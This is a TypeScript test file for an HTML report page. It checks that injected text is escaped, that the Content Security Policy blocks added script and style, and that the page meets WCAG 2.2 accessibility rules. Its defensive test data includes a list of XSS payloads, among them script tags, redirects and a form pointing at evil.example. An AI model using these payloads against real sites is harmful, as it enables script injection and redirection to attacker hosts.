import { AxeBuilder } from '@axe-core/playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { everything } from '../testing/reports/everything.ts'
import { HOSTILE_TEXTS } from '../testing/reports/hostile.ts'
import { Reader } from './open.ts'

/** What must never happen on the page, whatever stands in the report. */

const reader = new Reader()
afterAll(() => reader.close())

/** Texts that mean something to a browser, besides those that mean something to Markdown, XML or a runner. */
const FOR_BROWSERS = [
  '<svg onload=alert(1)>',
  '"><script src=//evil.example/x.js></script>',
  "' onfocus=alert(1) autofocus x='",
  '</title></style></script><script>alert(1)</script>',
  '</textarea></template></noscript><img src=https://evil.example/x.png>',
  '<base href=https://evil.example/><link rel=stylesheet href=x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--><script>alert(1)</script>-->',
  '\u2028<script>alert(1)</script>',
  '<form action=https://evil.example><input name=q><button class=copy>x</button></form>',
  '#status=failed" onclick="alert(1)',
]

/** Opening a page takes its time, so those that were made for others come ten at a time. */
const TOGETHER = Array.from({ length: Math.ceil(HOSTILE_TEXTS.length / 10) }, (_, nth) =>
  HOSTILE_TEXTS.slice(nth * 10, nth * 10 + 10).join(' '),
)

describe('text from outside', () => {
  let benign = 0
  beforeAll(async () => {
    const { page } = await reader.open(reader.save(everything('en-us', 'x')))
    benign = await page.evaluate(count)
  })
  const count = () =>
    document.querySelectorAll('script, style, link, meta, base, img, iframe, svg, form, input, object').length

  it.each([...FOR_BROWSERS, ...TOGETHER])(
    'makes no element, request or script of its own: %j',
    async text => {
      const { page, requests, complaints } = await reader.open(reader.save(everything('en-us', text, text)))
      expect(await page.evaluate(count)).toBe(benign)
      const handlers = await page.evaluate(() =>
        [...document.querySelectorAll('*')].flatMap(one =>
          one.getAttributeNames().filter(name => name.startsWith('on') || name === 'style'),
        ),
      )
      expect([handlers, complaints, requests.length]).toEqual([[], [], 1])
      await page.context().close()
    },
  )

  it('is shown as it is', async () => {
    const { page } = await reader.open(reader.save(everything('en-us', '<b>&amp;"\'</b>')))
    expect(await page.locator('h1').textContent()).toBe('Pre-check failed: <b>&amp;"\'</b>')
    expect(await page.locator('[data-item]').first().getAttribute('data-item')).toBe('<b>&amp;"\'</b>')
  })
})

describe('the policy of the page', () => {
  it('lets no other script and no other style in', async () => {
    const { page, complaints } = await reader.open(reader.save(everything('en-us')))
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'document.title = "run"'
      document.body.append(script)
      document.body.innerHTML +=
        '<img src="https://evil.example/x.png" onerror="document.title = 1"><p style="color: red">'
    })
    expect(await page.title()).not.toBe('run')
    expect(complaints.filter(text => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(
      3,
    )
  })
})

describe.each(['light', 'dark'] as const)('for people who use other means, in the %s theme,', colorScheme => {
  it.each([
    ['English', 'en-us', 1100],
    ['Chinese', 'zh-cn', 1100],
    ['a small screen', 'en-us', 412],
  ] as const)('the page holds to WCAG 2.2 A and AA: %s', async (_, language, width) => {
    const address = reader.save(everything(language, language === 'en-us' ? 'some text' : '一些文字'))
    const { page } = await reader.open(address, { colorScheme, viewport: { width, height: 900 } })
    // What is closed is not looked at.
    await page.locator('details').evaluateAll(all => {
      for (const one of all) one.setAttribute('open', '')
    })
    const { violations, passes } = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'])
      .analyze()
    const found = violations.map(
      ({ id, nodes }) =>
        `${id}: ${nodes
          .map(node => node.html)
          .slice(0, 3)
          .join(' ')}`,
    )
    expect(found).toEqual([])
    expect(passes.map(({ id }) => id)).toContain('color-contrast')
  })
})
